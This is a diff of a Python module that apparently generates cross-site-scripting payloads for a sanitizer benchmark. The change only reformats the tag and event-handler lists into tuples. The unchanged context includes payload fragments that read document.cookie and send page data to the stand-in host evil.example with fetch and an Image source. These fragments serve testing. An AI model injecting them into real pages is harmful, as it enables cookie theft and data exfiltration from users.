@@ -11,17 +11,21 @@ from collections.abc import Callable, Iterator
 CANARY = "tinaBenchCanary"
 EVIL = "evil.example"
 TAGS = (
-    "a abbr article audio base bdo blockquote body button canvas center clipPath custom-element "
-    "details dialog div embed fieldset font form foreignObject frame frameset head html i iframe "
-    "image img input isindex keygen label link listing main map marquee math menu meta mglyph "
-    "mtext noembed noframes noscript object optgroup option p param plaintext pre script section "
-    "select slot source style summary svg table tbody td template textarea tfoot th title tr track "
-    "use video xmp annotation-xml animate set desc mi mo ruby rt portal search"
-).split()
+    "a", "abbr", "article", "audio", "base", "bdo", "blockquote", "body", "button", "canvas",
+    "center", "clipPath", "custom-element", "details", "dialog", "div", "embed", "fieldset",
+    "font", "form", "foreignObject", "frame", "frameset", "head", "html", "i", "iframe", "image",
+    "img", "input", "isindex", "keygen", "label", "link", "listing", "main", "map", "marquee",
+    "math", "menu", "meta", "mglyph", "mtext", "noembed", "noframes", "noscript", "object",
+    "optgroup", "option", "p", "param", "plaintext", "pre", "script", "section", "select",
+    "slot", "source", "style", "summary", "svg", "table", "tbody", "td", "template", "textarea",
+    "tfoot", "th", "title", "tr", "track", "use", "video", "xmp", "annotation-xml", "animate",
+    "set", "desc", "mi", "mo", "ruby", "rt", "portal", "search",
+)  # fmt: skip
 EVENTS = (
-    "onload onerror onclick onmouseover onfocus onblur ontoggle onanimationstart ontransitionend "
-    "onpointerenter onscroll onwheel onbegin onend onpageshow onhashchange onbeforeunload onmessage"
-).split()
+    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle",
+    "onanimationstart", "ontransitionend", "onpointerenter", "onscroll", "onwheel", "onbegin",
+    "onend", "onpageshow", "onhashchange", "onbeforeunload", "onmessage",
+)  # fmt: skip
 CODE = (
     f"window.{CANARY}=1", f"{CANARY}=document.cookie", "alert(1)", "confirm`1`", "print()",
     f"fetch('//{EVIL}/?'+document.title)", f"new Image().src='https://{EVIL}/x'",
@@ -75,8 +79,8 @@ def _attribute(rng: Rng) -> str:
         return f"{_case(rng, rng.choice(EVENTS))}={_quoted(rng, rng.choice(CODE))}"
     if kind < 6:
         name = rng.choice(
-            ["href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "ping",
-             "background", "to", "values", "code", "manifest"]
+            ("href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster",
+             "ping", "background", "to", "values", "code", "manifest")
         )  # fmt: skip
         return f"{name}={_quoted(rng, _address(rng))}"
     if kind == 6:
